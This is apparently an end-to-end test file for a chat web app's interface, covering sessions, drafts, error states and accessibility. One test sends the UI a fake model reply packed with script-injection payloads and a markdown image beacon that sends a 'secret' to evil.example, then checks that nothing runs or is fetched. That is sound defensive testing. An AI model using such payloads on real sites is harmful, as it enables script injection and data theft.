import type { Route } from 'playwright-core'
import { expect } from 'vitest'
import { expectAccessible } from './accessible.ts'
import { activeContent } from './active-content.ts'
import type { ChatPage, Screen } from './chromium.ts'
import { test } from './screen-test.ts'

/** One turn from question to answer, spoken by the test. */
async function ask(screen: Screen, page: ChatPage, [text, answer]: readonly [string, string]): Promise<void> {
  await page.send(text)
  const question = await screen.conch.model.asked()
  await question.say(answer)
  question.finish()
  await page.answers.getByText(answer.split('\n', 1)[0] ?? '').waitFor()
}

test('a first message opens a session that is named after it, and the composer is empty once it was accepted', async ({
  screen,
}) => {
  const page = await screen.person()
  await page.composer.fill('Plan a week by the sea')
  await page.composer.press('Enter')
  const question = await screen.conch.model.asked()
  await expect.poll(() => page.composer.inputValue()).toBe('')
  await page.page.getByTestId('session-row').getByText('Plan a week by the sea').waitFor()
  await page.page.getByTestId('session-running').waitFor()
  question.finish()
  await page.page.getByTestId('session-running').waitFor({ state: 'detached' })
})

/** The session whose link has the focus, by its title. */
function focusedSession({ page }: ChatPage): Promise<string | null> {
  return page.evaluate(() => (document.activeElement?.matches('a') ? document.activeElement.textContent : null))
}

test('a session can be renamed and deleted', async ({ screen }) => {
  const page = await screen.person()
  await ask(screen, page, ['hello', 'hi there'])
  const row = page.page.getByTestId('session-row')
  await row.hover()
  await page.button('Actions for hello').click()
  await page.page.getByRole('menuitem', { name: 'Rename' }).click()
  const title = page.page.getByRole('textbox', { name: 'Title of the session' })
  await title.fill('Greetings')
  await title.press('Enter')
  await row.getByText('Greetings').waitFor()
  await expect.poll(() => focusedSession(page)).toContain('Greetings') // ui.md §5.4: the keys go on from here

  await screen.conch.ownerClient().createSession('Diary')
  const diary = row.filter({ hasText: 'Diary' })
  await diary.hover()
  await page.button('Actions for Diary').click()
  await page.page.getByRole('menuitem', { name: 'Delete' }).click()
  await page.page.getByRole('alertdialog').getByRole('button', { name: 'Delete session' }).click()
  await diary.waitFor({ state: 'detached' })
  await expect.poll(() => focusedSession(page)).toContain('Greetings')

  await row.hover()
  await page.button('Actions for Greetings').click()
  await page.page.getByRole('menuitem', { name: 'Delete' }).click()
  await page.page.getByRole('alertdialog').getByRole('button', { name: 'Delete session' }).click()
  await row.waitFor({ state: 'detached' })
  expect((await screen.conch.ownerClient().request('GET', '/api/sessions')).json).toMatchObject({ total: 0 })
})

test('who goes elsewhere while a session is being made stays there; the message is said all the same', async ({
  screen,
}) => {
  await screen.conch.ownerClient().createSession('Elsewhere')
  const page = await screen.person()
  const asked = Promise.withResolvers<Route>()
  await page.page.route('**/api/sessions', (route) =>
    route.request().method() === 'POST' ? asked.resolve(route) : route.continue(),
  )
  await page.send('say it there')
  const creation = await asked.promise
  await page.page.getByRole('link', { name: 'Elsewhere' }).click()
  const elsewhere = await page.sessionId()
  await creation.continue()
  const question = await screen.conch.model.asked()
  expect(question.message).toBe('say it there')
  await page.page.getByRole('link', { name: 'say it there' }).waitFor()
  expect(await page.sessionId()).toBe(elsewhere)
  question.finish()
})

test('a change of a session that does not get to the server says so at its row', async ({ screen }) => {
  await screen.conch.ownerClient().createSession('Diary')
  const { page } = await screen.person()
  const row = page.getByTestId('session-row').filter({ hasText: 'Diary' })
  const choose = async (item: string) => {
    await row.hover()
    await page.getByRole('button', { name: 'Actions for Diary' }).click()
    await page.getByRole('menuitem', { name: item }).click()
  }
  await page.route(/\/api\/sessions\/[^/]+(\/(pin|export).*)?$/, (route) => route.abort())
  for (const item of ['Pin to the top', 'Mark as private', 'Save as Markdown']) {
    await choose(item)
    await row.getByRole('status').getByText('That did not work. Nothing was changed').waitFor()
  }
  await page.unrouteAll()
  await choose('Pin to the top')
  await page.getByRole('heading', { name: 'Pinned' }).waitFor()
  await row.getByRole('status').waitFor({ state: 'detached' })
})

test('each session keeps its own draft, also across a reload', async ({ screen }) => {
  const page = await screen.person()
  await ask(screen, page, ['one', 'first answer'])
  await page.composer.fill('draft of one')
  await page.button('New session').click()
  await ask(screen, page, ['two', 'second answer'])
  await page.composer.fill('draft of two')
  await page.page.getByTestId('session-row').getByText('one').click()
  await expect.poll(() => page.composer.inputValue()).toBe('draft of one')
  await page.page.reload()
  await expect.poll(() => page.composer.inputValue()).toBe('draft of one')
  await page.page.getByTestId('session-row').getByText('two').click()
  await expect.poll(() => page.composer.inputValue()).toBe('draft of two')
})

test('D10: a browser that nobody has let in is told how to be, and sees no session', async ({ screen }) => {
  const page = await screen.stranger()
  await page.getByText('This browser is not connected yet').waitFor()
  await page.getByText('npm start -- link').waitFor()
  expect(await page.getByTestId('session-row').count()).toBe(0)
})

test('S9: what a model writes is shown, never run, and nothing is fetched for it', async ({ screen }) => {
  const page = await screen.person()
  const hostile = [
    '<img src=x onerror="document.title=1"> <script>document.title=2</script>',
    '[click](javascript:document.title=3) ![beacon](https://evil.example/?q=secret)',
    '<iframe srcdoc="<script>parent.document.title=4</script>"></iframe> safe to read',
  ].join('\n\n')
  await page.send('be hostile')
  const question = await screen.conch.model.asked()
  await question.say(hostile)
  await page.answers.getByText('safe to read').waitFor()
  const streamed = await activeContent(page.answers)
  question.finish()
  await expect.poll(() => page.page.getByRole('log').getAttribute('aria-busy')).toBe('false')
  await page.page.reload()
  await page.answers.getByText('safe to read').waitFor()
  expect([streamed, await activeContent(page.answers)]).toEqual([[], []])
  expect(await page.page.title()).not.toMatch(/^[1-4]$/)
  expect(screen.complaints).toEqual([])
})

for (const [name, look] of [
  ['light and wide', { colorScheme: 'light', viewport: { width: 1280, height: 800 } }],
  ['dark on a phone', { colorScheme: 'dark', viewport: { width: 360, height: 740 } }],
] as const) {
  test(`axe finds nothing, and nothing is clipped: ${name}`, async ({ screen }) => {
    // without motion, or axe would measure the contrast of what is still fading in
    const page = await screen.person({ ...look, reducedMotion: 'reduce' })
    await expectAccessible(page)
    await ask(screen, page, ['hello', RICH_ANSWER])
    await page.send('and more')
    const question = await screen.conch.model.asked()
    const other = await screen.tab(page)
    await other.send('me too')
    await other.holderCard.waitFor()
    await expectAccessible(other)
    question.finish()
    expect(screen.complaints).toEqual([])
  })
}

const RICH_ANSWER =
  'An answer of many parts\n\n- with `code`\n\n```ts\nconst a = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'
